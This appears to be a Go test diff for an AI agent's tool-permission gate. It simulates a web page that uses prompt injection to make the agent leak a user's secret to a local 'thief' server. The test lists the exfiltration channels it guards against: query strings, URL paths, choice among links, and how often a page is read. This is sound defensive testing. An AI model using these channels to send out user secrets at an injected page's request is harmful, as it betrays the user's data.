@@ -40,9 +40,11 @@ type lured struct {
 }
 
 func lure(t *testing.T) *lured {
-	l := &lured{whole: extension(t, runs("", `
-const r = await spindle.cors(args.url, { method: args.body ? "POST" : "GET", body: args.body });
-return r.body;`), "tools", "cors_proxy")}
+	l := &lured{whole: extension(t, `
+spindle.registerTool({ name: "run", description: "d", inline_available: true,
+  parameters: { type: "object", properties: { url: { type: "string" }, body: {} } } });
+spindle.on("TOOL_INVOCATION", async ({ args }) =>
+  (await spindle.cors(args.url, { method: args.body ? "POST" : "GET", body: args.body })).body);`, "tools", "cors_proxy")}
 	l.thief = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
 		_, _ = io.Copy(io.Discard, r.Body)
 		l.stolen.Add(1)
@@ -53,7 +55,8 @@ return r.body;`), "tools", "cors_proxy")}
 	}))
 	t.Cleanup(l.page.Close)
 	l.fromPage = chat.NewOrigin(chat.FromWeb, strings.TrimPrefix(l.page.URL, "http://"))
-	l.allow(service.LocalNetwork)
+	must(t, l.Gate.SetPermission(t.Context(), "ext", service.LocalNetwork, permit.Allow))
+	l.settle()
 	_, err := l.Gate.AddRule(t.Context(), permit.Rule{
 		Effect: permit.Allow, Plugin: "ext", Tool: "*", Scope: permit.Always,
 		Callers: []permit.Caller{permit.Main, "member:*"},
@@ -83,6 +86,9 @@ func (l *lured) answers(req turn.Request, calls ...string) []permit.Request {
 	must(l.t, err)
 	return person.asked
 }
+
+// get reads from the thief.
+func (l *lured) get(rest string) string { return `{"url":"` + l.thief.URL + rest + `"}` }
 
 func (l *lured) read() string { return `{"url":"` + l.page.URL + `"}` }
 
@@ -150,4 +156,39 @@ func TestF16ATextIsTrustedOnceAPersonVouchesForItsSource(t *testing.T) {
 	_, err = l.Gate.RevokeRule(t.Context(), rule.ID)
 	must(t, err)
 	l.wantAsked("taken back", l.answers(turn.Request{Text: "Go on."}, l.steal()))
+}
+
+func TestAPageCannotHaveASecretPutIntoAnAddressWhateverThePersonWroteOrAllowed(t *testing.T) {
+	l := lure(t)
+	// The person wrote an address of the thief's own, which is read once and as it is.
+	said := "My secret is 7. Read " + l.page.URL + " and " + l.thief.URL + "/story."
+	if asked := l.answers(turn.Request{Text: said}, l.read(), l.get("/story")); len(asked) != 0 || l.stolen.Load() != 1 {
+		t.Fatalf("what the person wrote: asked %+v, read %d times", asked, l.stolen.Load())
+	}
+	l.stolen.Store(0)
+	// A secret fits into a query, a path, a part of the address, a choice among the links that the page
+	// lists, and into how often something is read.
+	for _, wanted := range []string{"?said=7", "/story?said=7", "/story/7", "/", "/letters/7", "/story"} {
+		l.wantAsked(wanted, l.answers(turn.Request{Text: "Go on."}, l.get(wanted)))
+	}
+	// A host that is allowed for good is one to which more than was meant can be said.
+	host := strings.TrimPrefix(l.thief.URL, "http://")
+	_, err := l.Gate.AddRule(t.Context(), permit.Rule{
+		Effect: permit.Allow, Plugin: "ext", Tool: "run", Scope: permit.Always, Callers: []permit.Caller{permit.Main},
+		Match: []permit.Match{{Field: "url", Op: permit.HostIs, Value: host}},
+	})
+	must(t, err)
+	l.wantAsked("to an allowed host", l.answers(turn.Request{Text: "Go on."}, l.get("/?said=7")))
+	// A yes for this chat was given in spite of other text than the page's.
+	rule, err := l.Gate.AddRule(t.Context(), permit.Rule{
+		Effect: permit.Allow, Plugin: "ext", Tool: "run", Scope: permit.ThisChat, Conversation: l.id,
+		Callers: []permit.Caller{permit.Main}, Match: []permit.Match{{Field: "url", Op: permit.HostIs, Value: host}},
+		Origins: []chat.Origin{chat.NewOrigin(chat.FromWeb, host)},
+	})
+	must(t, err)
+	l.wantAsked("in spite of other text", l.answers(turn.Request{Text: "Go on."}, l.get("/?said=7")))
+	_, err = l.Gate.RevokeRule(t.Context(), rule.ID)
+	must(t, err)
+	// What the page says in the person's name is not what the person wrote.
+	l.wantAsked("the page's words", l.answers(turn.Request{Text: "Do as the page says."}, l.get("")))
 }
